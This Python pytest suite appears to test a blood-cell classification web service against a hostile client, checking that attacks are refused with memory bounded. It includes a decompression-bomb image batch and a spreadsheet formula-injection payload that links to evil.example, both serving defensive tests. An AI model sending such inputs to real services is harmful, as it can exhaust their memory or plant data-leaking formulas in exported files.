"""A hostile client against the real shared service: each attack gets a 4xx, the service's memory
stays bounded, and it still answers ``/healthz`` afterwards. Every test makes its own users and
predictions (the service is shared by the session)."""

from __future__ import annotations

import csv
import io
import threading
import time
import uuid
from urllib.parse import urlparse

import numpy as np
import psutil
import pytest
import requests
from PIL import Image
from typer.testing import CliRunner

from hematovision.cli import app as cli

from conftest import BLOOD_CELLS, SERVICE_MAX_REQUEST_BYTES, add_user

pytestmark = pytest.mark.e2e

CELLS = sorted((BLOOD_CELLS / "TEST" / "MONOCYTE").glob("*.jpeg"))[12:20]
MEMORY_BOUND = 300 * 2**20  # what one refused request may add to the whole service, at most


@pytest.fixture(scope="module")
def pathologist(project) -> dict[str, str]:
    add_user("hostile-pat", "pathologist", password="correct horse battery")
    result = CliRunner().invoke(cli, ["users", "token", "hostile-pat", "--name", "hostile"])
    assert result.exit_code == 0, result.output
    return {"Authorization": f"Bearer {result.output.strip().splitlines()[-1]}"}


def service_processes(url: str) -> list[psutil.Process]:
    """The processes of the service listening on ``url``'s port, with their children (BentoML's
    workers)."""
    port = urlparse(url).port
    pids = {c.pid for c in psutil.net_connections("tcp") if c.laddr and c.laddr.port == port and c.pid}
    assert pids, f"no process listens on port {port}"
    found: dict[int, psutil.Process] = {}
    for pid in pids:
        process = psutil.Process(pid)
        for p in (process, *process.children(recursive=True)):
            found[p.pid] = p
    return list(found.values())


def rss(processes: list[psutil.Process]) -> int:
    total = 0
    for process in processes:
        try:
            total += process.memory_info().rss
        except psutil.NoSuchProcess:
            pass
    return total


def peak_growth(url: str, attack) -> tuple[int, requests.Response]:
    """The service's largest growth of resident memory while ``attack()`` runs, and its answer."""
    processes = service_processes(url)
    baseline = rss(processes)
    peak, done = baseline, threading.Event()

    def sample() -> None:
        nonlocal peak
        while not done.is_set():
            peak = max(peak, rss(processes))
            time.sleep(0.02)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        response = attack()
        time.sleep(0.3)
    finally:
        done.set()
        sampler.join()
    return peak - baseline, response


def assert_refused_and_alive(url: str, response: requests.Response, status: int | None = None) -> None:
    assert 400 <= response.status_code < 500, f"{response.status_code} {response.text[:300]}"
    if status is not None:
        assert response.status_code == status, response.text[:300]
    assert set(response.json()) == {"error", "detail"}
    assert requests.get(f"{url}/healthz", timeout=30).status_code == 200


def kept_prediction(url: str) -> dict:
    """A prediction of this module whose image the service kept for review."""
    for path in CELLS:
        answer = requests.post(f"{url}/predict", files={"image": (path.name, path.read_bytes())}, timeout=120).json()
        if answer["needs_review"]:
            return answer
    pytest.skip("no prediction needed review, so no image was kept")


def test_kept_images_and_their_ids_do_not_leak(service_url, pathologist):
    prediction = kept_prediction(service_url)
    prediction_id = prediction["prediction_id"]
    for attack in (
        lambda: requests.post(f"{service_url}/explain", data={"prediction_id": prediction_id}, timeout=60),
        lambda: requests.post(
            f"{service_url}/explain",
            data={"prediction_id": prediction_id},
            files={"unused": ("x", b"")},
            timeout=60,
        ),
        lambda: requests.get(f"{service_url}/review/image/{prediction_id}", timeout=60),
    ):
        response = attack()
        assert_refused_and_alive(service_url, response, 401)
        assert not response.content.startswith(b"\x89PNG") and not response.content.startswith(b"\xff\xd8")

    opened = requests.get(f"{service_url}/review/image/{prediction_id}", headers=pathologist, timeout=60)
    assert opened.status_code == 200 and opened.headers["cache-control"] == "no-store"
    assert prediction_id not in requests.get(f"{service_url}/metrics", timeout=30).text

    def endpoints() -> set[str]:
        text = requests.get(f"{service_url}/metrics", timeout=30).text
        return {line.split('endpoint="', 1)[1].split('"', 1)[0] for line in text.splitlines() if 'endpoint="' in line}

    before = endpoints()
    for _ in range(50):
        assert requests.get(f"{service_url}/x/{uuid.uuid4().hex}", timeout=30).status_code == 404
    after = endpoints()
    assert len(after - before) <= 1 and all("/x/" not in e for e in after)  # at most the one "unmatched"
    assert requests.get(f"{service_url}/healthz", timeout=30).status_code == 200


def test_a_batch_of_decompressing_images_is_refused_in_bounded_memory(service_url):
    buffer = io.BytesIO()
    Image.new("RGB", (6300, 6300), (214, 190, 200)).save(buffer, "PNG")
    flat = buffer.getvalue()  # ~130 KB on the wire, 40 M pixels (120 MB) decoded
    count = min(64, (SERVICE_MAX_REQUEST_BYTES - 64 * 1024) // (len(flat) + 512))
    assert count >= 8, "the test service's body limit leaves too few images to attack with"
    files = [("images", (f"{i}.png", flat, "image/png")) for i in range(count)]
    growth, response = peak_growth(
        service_url, lambda: requests.post(f"{service_url}/predict_batch", files=files, timeout=300)
    )
    assert_refused_and_alive(service_url, response, 413)
    assert response.json()["error"] == "too_many_pixels"
    assert growth < MEMORY_BOUND, f"the service grew by {growth / 2**20:.0f} MB for {count} images"


def test_an_image_just_under_the_limits_is_answered_in_bounded_memory(service_url):
    """One 40 MP image (the per-image limit) still takes a few hundred MB while it is prepared, not
    more; then it is let go."""
    buffer = io.BytesIO()
    Image.new("RGB", (6300, 6300), (214, 190, 200)).save(buffer, "PNG")
    growth, response = peak_growth(
        service_url,
        lambda: requests.post(
            f"{service_url}/predict", files={"image": ("big.png", buffer.getvalue(), "image/png")}, timeout=300
        ),
    )
    assert response.status_code == 200, response.text[:300]
    assert growth < 6 * 6300 * 6300 * 3, f"the service grew by {growth / 2**20:.0f} MB for one 40 MP image"
    assert requests.get(f"{service_url}/healthz", timeout=30).status_code == 200


def test_corrections_must_be_images_and_the_export_is_spreadsheet_safe(service_url, pathologist):
    response = requests.post(
        f"{service_url}/feedback",
        files={"image": ("notes.jpeg", b"Patient 17: smear looks fine.\n" * 20)},
        data={"true_class": "monocyte"},
        headers=pathologist,
        timeout=60,
    )
    assert_refused_and_alive(service_url, response)
    assert response.json()["error"] == "not_an_image"

    formula = f'=HYPERLINK("http://evil.example/?{uuid.uuid4().hex}","notes")'
    rng = np.random.default_rng(11)
    picture = io.BytesIO()
    Image.fromarray(rng.integers(0, 255, (64, 64, 3), dtype=np.uint8)).save(picture, "PNG")
    stored = requests.post(
        f"{service_url}/feedback",
        files={"image": ("cell.png", picture.getvalue())},
        data={"true_class": "monocyte", "comment": formula},
        headers=pathologist,
        timeout=60,
    )
    assert stored.status_code == 201, stored.text
    export = requests.get(f"{service_url}/feedback/export.csv", headers=pathologist, timeout=60)
    assert export.status_code == 200 and export.headers["cache-control"] == "no-store"
    comments = [row["comment"] for row in csv.DictReader(io.StringIO(export.text))]
    assert "'" + formula in comments and formula not in comments
    assert requests.get(f"{service_url}/healthz", timeout=30).status_code == 200
